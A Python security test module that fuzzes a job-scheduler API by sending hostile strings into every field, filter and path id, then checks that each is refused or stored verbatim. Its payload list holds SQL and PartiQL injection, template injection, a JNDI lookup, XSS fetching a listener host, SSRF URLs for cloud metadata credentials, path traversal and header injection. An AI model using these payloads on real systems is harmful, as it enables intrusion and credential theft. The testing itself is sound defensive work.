"""Hostile words in every field that takes any: refused, or kept and given back as data only."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from proof.api.attacks import REFUSED, faults_of, request
from proof.api.wire import Reply, Target

TAKEN = frozenset({200, 201})
DAY_SECONDS = 86_400

WORDS: Mapping[str, str] = {
    "SQL": "' OR '1'='1' --",
    "SQL that deletes": "x'; DELETE FROM jobs; --",
    "PartiQL": "\" SET s='SUCCEEDED' WHERE p='one' --",
    "PartiQL that selects": "?' OR begins_with(p, '') AND 's' <> '",
    "a placeholder": ":now, :g = :g, #s = #s",
    "a condition": "attribute_not_exists(p) OR p = :p",
    "Jinja": "{{ 7*7 }}{% for a in ().__class__.__base__.__subclasses__() %}",
    "Python's format": "{0.__class__.__init__.__globals__} %(password)s %s%n%x",
    "JavaScript's template": "${7*7}#{7*7}`id`$(id)",
    "JNDI": "${jndi:ldap://{trap}/a}",
    "a script": "<script>fetch('http://{trap}/')</script><img src=x onerror=alert(1)>",
    "a closed script": "</script></title></textarea>--><svg/onload=alert(1)>",
    "Markdown": "[a](javascript:alert(1)) ![b](http://{trap}/b)",
    "a formula": "=cmd|' /C calc'!A0",
    "an URL": "http://{trap}/latest/meta-data/iam/security-credentials/",
    "an URL of the cloud": "http://169.254.169.254/latest/meta-data/",
    "a file": "file:///etc/passwd",
    "a gopher": "gopher://{trap}/_GET%20/",
    "a way out": "../../../../etc/passwd",
    "a bucket": "s3://hourhand/../../x",
    "an ARN": "arn:aws:lambda:eu-central-1:123456789012:function:other",
    "a queue": "http://{trap}/000000000000/hourhand-high",
    "line breaks": "a\r\nX-Injected: yes\r\n\r\n<html>",
    "a log line": '\n{"level": "ERROR", "message": "forged"}',
    "an escape of terminals": "\x1b[2J\x1b]0;owned\x07",
    "NUL": "a\x00b",
    "the other way round": "\u202egnp.exe\u202c\u200b\ufeff",
    "a bomb in colour": "\U0001f4a3" * 10,
    "combined": "Z\u0351\u036b\u0343\u036a\u0302\u0346" * 5,
    "no character": "\ufffe\uffff",
    "our separators": "1:a.2#b|c,d/e",
    "our own key": "k.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "a prototype": "__proto__",
    "a dunder": "__class__",
    "white space": " \t ",
    "nothing": "",
    "null": "null",
    "an overlong word": "x" * 100_000,
}
"""``{trap}``: the address of a listener of our own, which nobody may call."""

ALL_WORDS = frozenset(WORDS)
INJECTIONS = frozenset(
    {
        "SQL",
        "PartiQL",
        "PartiQL that selects",
        "a placeholder",
        "a condition",
        "NUL",
        "our separators",
    }
)
"""What could mean something to DynamoDB."""

Form = Callable[[str], tuple[str, str, Any]]
"""How a text is sent in one field: method, path and body of the request."""


@dataclass(frozen=True, slots=True)
class Field:
    """A field that takes a text. ``read`` finds it again in the answer; absent: it is none."""

    name: str
    form: Form
    read: Callable[[Any], Any] | None = None


def _job(name: str, read: Callable[[Any], Any] | None = None, **more: Any) -> Field:
    def form(text: str) -> tuple[str, str, Any]:
        body = {"handler": "echo", "delay_seconds": DAY_SECONDS, **more, name: text}
        if name == "run_at":
            del body["delay_seconds"]
        return "POST", "/v1/jobs", body

    return Field(f"a job's {name}", form, read or (lambda job: job[name]))


def _in_job(name: str, part: Callable[[str], dict[str, Any]], read: Callable[[Any], Any]) -> Field:
    def form(text: str) -> tuple[str, str, Any]:
        return "POST", "/v1/jobs", {"handler": "echo", "delay_seconds": DAY_SECONDS, **part(text)}

    return Field(f"a job's {name}", form, read)


def _schedule(name: str, read: Callable[[Any], Any] | None = None) -> Field:
    def form(text: str) -> tuple[str, str, Any]:
        body = {"handler": "echo", "expression": "@yearly", "timezone": "UTC", name: text}
        return "PUT", "/v1/schedules/words", body

    return Field(f"a schedule's {name}", form, read or (lambda schedule: schedule[name]))


def _query(path: str, name: str) -> Field:
    def form(text: str) -> tuple[str, str, Any]:
        return "GET", f"{path}?{name}={quote(text[:5000], safe='')}", ...

    return Field(f"{name} of {path}", form)


def _bulk(path: str, name: str) -> Field:
    return Field(f"{name} of {path}", lambda text: ("POST", path, {name: text, "dry_run": True}))


def _path(method: str, before: str, after: str = "") -> Field:
    def form(text: str) -> tuple[str, str, Any]:
        body: Any = {} if method == "POST" else ...
        return method, f"{before}{quote(text[:5000], safe='')}{after}", body

    return Field(f"an id in {before}...{after}", form)


FILTERS = (
    *("status", "handler", "schedule_id", "tenant", "tag", "error_type", "error_group"),
    *("created_after", "cursor"),
)
BULK_PATHS = ("/v1/jobs/cancel", "/v1/jobs/redrive", "/v1/jobs/discard")

FIELDS: tuple[Field, ...] = (
    *(_job(name) for name in ("handler", "id", "idempotency_key", "tenant", "payload")),
    *(_job(name) for name in ("run_at", "expires_at", "priority", "on_lost", "pool")),
    _job("concurrency_key", lambda job: job.get("concurrency_key")),
    _in_job("tag", lambda text: {"tags": {"words": text}}, lambda job: job["tags"]["words"]),
    _in_job("tag's key", lambda text: {"tags": {text: "a"}}, lambda job: next(iter(job["tags"]))),
    _in_job(
        "name in a payload",
        lambda text: {"payload": {text: [text]}},
        lambda job: next(iter(job["payload"])),
    ),
    _in_job(
        "backoff", lambda text: {"retry": {"backoff": text}}, lambda job: job["retry"]["backoff"]
    ),
    _in_job("jitter", lambda text: {"retry": {"jitter": text}}, lambda job: job["retry"]["jitter"]),
    _in_job("unknown field", lambda text: {text: 1}, lambda _: None),
    *(
        _schedule(name)
        for name in ("handler", "expression", "timezone", "payload", "tenant", "note")
    ),
    *(
        _schedule(name)
        for name in ("anchor", "start_at", "end_at", "overlap", "dst_gap", "dst_fold")
    ),
    Field(
        "an exclusion",
        lambda text: ("PUT", "/v1/calendars/words", {"exclude": [text]}),
        lambda c: c["exclude"][0],
    ),
    Field(
        "a calendar's note",
        lambda text: ("PUT", "/v1/calendars/words", {"exclude": [], "note": text}),
        lambda c: c["note"],
    ),
    Field(
        "a previewed zone",
        lambda text: (
            "POST",
            "/v1/schedules/preview",
            {"schedule": {"expression": "@daily", "timezone": text}},
        ),
    ),
    Field(
        "a previewed rule",
        lambda text: ("POST", "/v1/schedules/preview", {"schedule": {"expression": text}}),
    ),
    Field(
        "the start of a backfill",
        lambda text: (
            "POST",
            "/v1/schedules/one/backfill",
            {"from": text, "to": text, "dry_run": True},
        ),
    ),
    Field("the note of a pause", lambda text: ("POST", "/v1/schedules/one/pause", {"note": text})),
    Field("the note of a discard", lambda text: ("POST", "/v1/jobs/one/discard", {"note": text})),
    *(_query("/v1/jobs", name) for name in (*FILTERS, "discarded", "idempotency_key")),
    *(
        _query(path, "cursor")
        for path in ("/v1/schedules", "/v1/calendars", "/v1/schedules/one/occurrences")
    ),
    *(_bulk(path, name) for path in BULK_PATHS for name in FILTERS),
    *(_path("GET", path) for path in ("/v1/jobs/", "/v1/schedules/", "/v1/calendars/")),
    *(_path("GET", "/v1/jobs/", after) for after in ("/events", "/logs")),
    *(
        _path("POST", "/v1/jobs/", after)
        for after in ("/cancel", "/redrive", "/discard", "/run-now")
    ),
    *(_path("POST", "/v1/schedules/", after) for after in ("/pause", "/resume", "/trigger")),
)


def texts_against(
    target: Target, words: frozenset[str], trap: str
) -> Iterator[tuple[str, Reply | None, list[str]]]:
    """Send the texts of these names in every field; yield what was sent, the answer and its faults.

    ``trap``: host and port of a listener that notices whoever is led to call it.
    """
    for word in sorted(words):
        text = WORDS[word].replace("{trap}", trap)
        for field in FIELDS:
            yield send_text(target, field, word, text)


def send_text(
    target: Target, field: Field, word: str, text: str, *, is_due: bool = False
) -> tuple[str, Reply | None, list[str]]:
    """Send one text in one field; return what was sent, the answer and its faults.

    ``is_due``: what is sent with it is to be run at once and not in a day.
    """
    method, path, value = field.form(text)
    if is_due and isinstance(value, dict):
        value = {name: each for name, each in value.items() if name != "delay_seconds"}
    body = None if value is ... else json.dumps(value).encode()
    attack = request(
        "text", f"{word} as {field.name}", method, path, body, allowed=REFUSED | TAKEN | {414}
    )
    reply, faults = attack.strike(target)
    if reply is not None and reply.status in TAKEN and field.read is not None and not faults:
        faults += _misread(target, field, reply, text)
    if reply is not None and not faults and reply.status not in TAKEN:
        faults += [f"{attack}: {fault}" for fault in faults_of(attack, reply)]
    return str(attack), reply, faults


def _misread(target: Target, field: Field, reply: Reply, text: str) -> Iterator[str]:
    """Compare what was kept with what was sent, in the answer and once more as it is read."""
    assert field.read is not None
    value = reply.json
    told = field.read(value)
    # No words at all are no note.
    if (told or "") != text:
        yield f"{text[:50]!r} as {field.name} came back as {told!r:.50}"
    home = reply.headers.get("location")
    if home is None:
        return
    read = target.request("GET", home)
    if read.status != 200 or field.read(read.json) != told:
        yield f"{text[:50]!r} as {field.name} is read as {read.body[:200]!r}"
